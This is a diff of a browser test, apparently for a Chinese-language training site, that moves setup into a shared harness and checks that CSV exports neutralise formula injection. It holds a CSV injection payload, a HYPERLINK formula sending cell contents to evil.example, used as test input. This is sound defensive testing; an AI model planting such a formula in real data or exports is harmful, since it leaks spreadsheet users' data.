@@ -4,26 +4,15 @@
 // from the export view) hold that name as text with a leading apostrophe, never as a formula.
 // The writer itself is tested cell by cell in tests/csv_exports.rs; this checks that the page's
 // downloads go through it.
-import { test, before, after } from 'node:test';
+import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
-import { serve, launch, watchErrors, waitReady } from './harness.mjs';
+import { pageRig, watchErrors, waitReady } from './harness.mjs';
 
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"查看成绩")';
 const EVIL_ID = '-1+1';
 
-let server;
-let browser;
-
-before(async () => {
-  server = await serve();
-  browser = await launch();
-});
-
-after(async () => {
-  await browser?.close();
-  await server?.close();
-});
+const rig = pageRig();
 
 /** The cells of CSV text exactly as a spreadsheet receives them (RFC 4180, nothing undone). */
 function rawCells(text) {
@@ -54,10 +43,10 @@ async function download(page, selector) {
 }
 
 test('a candidate named =HYPERLINK(…) lands in both CSV downloads as text', async () => {
-  const context = await browser.newContext();
+  const context = await rig.browser.newContext();
   const page = await context.newPage();
   const errors = watchErrors(page);
-  await page.goto(server.url);
+  await page.goto(rig.url);
   await waitReady(page);
   await page.getByLabel('姓名').fill(EVIL_NAME);
   await page.getByLabel('工号').fill(EVIL_ID);
@@ -69,14 +58,14 @@ test('a candidate named =HYPERLINK(…) lands in both CSV downloads as text', as
   await page.locator('#confirm-yes').click();
   await page.waitForSelector('#result-summary');
 
-  await page.goto(`${server.url}#/trainer`);
+  await page.goto(`${rig.url}#/trainer`);
   await page.waitForSelector('#export-results');
   const list = rawCells(await download(page, '#export-results'));
   assertFormulaSafe(list, 'trainer list');
   assert.ok(list.includes(`'${EVIL_NAME}`), 'the name is written with an apostrophe');
   assert.ok(list.includes(`'${EVIL_ID}`), 'the id is written with an apostrophe');
 
-  await page.goto(`${server.url}#/export`);
+  await page.goto(`${rig.url}#/export`);
   await page.waitForSelector('#export-results-csv:not([disabled])');
   const results = rawCells(await download(page, '#export-results-csv'));
   assertFormulaSafe(results, 'results');
